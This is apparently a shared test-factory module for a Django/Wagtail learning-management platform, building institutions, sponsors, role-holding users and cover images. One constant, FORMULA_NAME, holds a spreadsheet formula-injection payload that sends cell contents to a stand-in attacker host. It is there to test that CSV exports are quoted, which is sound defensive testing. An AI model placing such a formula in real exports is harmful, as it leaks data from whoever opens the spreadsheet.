"""Factories shared by every app's tests."""

import factory
from allauth.account.models import EmailAddress
from django.contrib.auth.models import Group
from wagtail.images.tests.utils import get_test_image_file

from lms.models import Institution, Role, Sponsor, User

DEFAULT_PASSWORD = "correct-horse-battery-9"
# A name a spreadsheet would run as a formula: every CSV export must write it quoted.
FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Open")'


class InstitutionFactory(factory.django.DjangoModelFactory):
    class Meta:
        model = Institution

    name = factory.Sequence(lambda n: f"Partner Hospital {n}")
    country = "MX"
    city = "Ciudad de México"


class SponsorFactory(factory.django.DjangoModelFactory):
    class Meta:
        model = Sponsor

    name = factory.Sequence(lambda n: f"Scholarship Fund {n}")
    kind = Sponsor.Kind.FOUNDATION


class UserFactory(factory.django.DjangoModelFactory):
    """A learner with a confirmed email, able to log in with DEFAULT_PASSWORD."""

    class Meta:
        model = User
        skip_postgeneration_save = True

    email = factory.Sequence(lambda n: f"person{n}@example.org")
    full_name = factory.Sequence(lambda n: f"María Pérez {n}")
    profession = User.Profession.NURSE
    country = "MX"
    preferred_language = "en"
    password = factory.django.Password(DEFAULT_PASSWORD)

    @factory.post_generation
    def verified_email(obj, create, extracted, **kwargs):
        if create and extracted is not False:
            EmailAddress.objects.create(user=obj, email=obj.email, verified=True, primary=True)

    @factory.post_generation
    def roles(obj, create, extracted, **kwargs):
        if create and extracted:
            _grant(obj, *extracted)


def _grant(user: User, *roles: Role | str) -> None:
    user.groups.add(*(Group.objects.get_or_create(name=str(role))[0] for role in roles))


class FacultyFactory(UserFactory):
    profession = User.Profession.DOCTOR
    roles = factory.PostGeneration(lambda obj, create, extracted, **kw: create and _grant(obj, Role.FACULTY))


class CoordinatorFactory(UserFactory):
    profession = User.Profession.OTHER
    roles = factory.PostGeneration(lambda obj, create, extracted, **kw: create and _grant(obj, Role.COORDINATOR))


class EditorFactory(UserFactory):
    profession = User.Profession.OTHER
    roles = factory.PostGeneration(lambda obj, create, extracted, **kw: create and _grant(obj, Role.EDITOR))


class CoverImageFactory(factory.django.DjangoModelFactory):
    """A Wagtail image (Wagtail's own 640 x 480 test PNG) for a course's or programme's cover."""

    class Meta:
        model = "wagtailimages.Image"

    title = factory.Sequence(lambda n: f"Cover {n}")
    file = factory.LazyFunction(lambda: get_test_image_file())
